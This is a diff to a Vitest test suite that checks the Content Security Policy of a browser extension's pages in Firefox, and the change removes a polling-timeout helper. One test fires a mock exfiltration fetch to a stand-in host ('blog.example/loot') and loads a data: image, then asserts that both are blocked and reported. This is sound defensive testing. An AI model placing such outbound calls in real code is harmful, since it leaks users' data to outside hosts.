@@ -1,7 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import { unreadIn } from './support/find-chapters.ts';
 import { journeyInFirefox, popupOf, textOf } from './support/firefox-journey.ts';
-import { within } from './support/within.ts';
 
 const PAGES = ['popup.html', 'library.html', 'options.html', 'report.html', 'discuss.html', 'up-to.html'];
 
@@ -15,13 +14,13 @@ describe("the policy of the extension's own pages, in Firefox", () => {
       popup.evaluate(
         () => [...document.images].filter((each) => each.src.startsWith('blob:') && each.naturalWidth > 0).length,
       );
-    await expect.poll(covers, within).toBeGreaterThan(0);
+    await expect.poll(covers).toBeGreaterThan(0);
     const { chapter } = unreadIn(service.fakeService.world, account);
     for (const name of PAGES) {
       const about = name === 'report.html' ? `category=chapter&objectId=${chapter.id}` : `chapter=${chapter.id}`;
       for (const query of ['', `?${about}`]) {
         const page = await firefox.open(name + query);
-        await expect.poll(() => textOf(page, 'body'), within).not.toBe('');
+        await expect.poll(() => textOf(page, 'body')).not.toBe('');
         await page.close();
       }
     }
@@ -31,7 +30,7 @@ describe("the policy of the extension's own pages, in Firefox", () => {
   it('keeps a page of ours from strange hosts and from pictures in addresses, and each is heard of', async () => {
     const { service, firefox } = journey();
     const page = await firefox.open('options.html');
-    await expect.poll(() => textOf(page, 'body'), within).not.toBe('');
+    await expect.poll(() => textOf(page, 'body')).not.toBe('');
     await page.evaluate(() => fetch('https://blog.example/loot?from=page', { mode: 'no-cors' }).catch(() => null));
     await page.evaluate(() => {
       new Image().src = 'data:image/gif;base64,R0lGODlhAQABAAAAACw=';
@@ -47,7 +46,7 @@ describe("the policy of the extension's own pages, in Firefox", () => {
     const knowsTrustedTypes = await page.evaluate(() => 'trustedTypes' in window);
     expect(markup).toContain(knowsTrustedTypes ? 'TypeError' : 'taken');
     for (const directive of ['connect-src', 'img-src', ...(knowsTrustedTypes ? ['require-trusted-types-for'] : [])])
-      await expect.poll(async () => (await firefox.policyViolations.said()).join('\n'), within).toContain(directive);
+      await expect.poll(async () => (await firefox.policyViolations.said()).join('\n')).toContain(directive);
     expect(service.journal.requests({ host: 'blog' })).toEqual([]);
     await firefox.policyViolations.forget();
   });
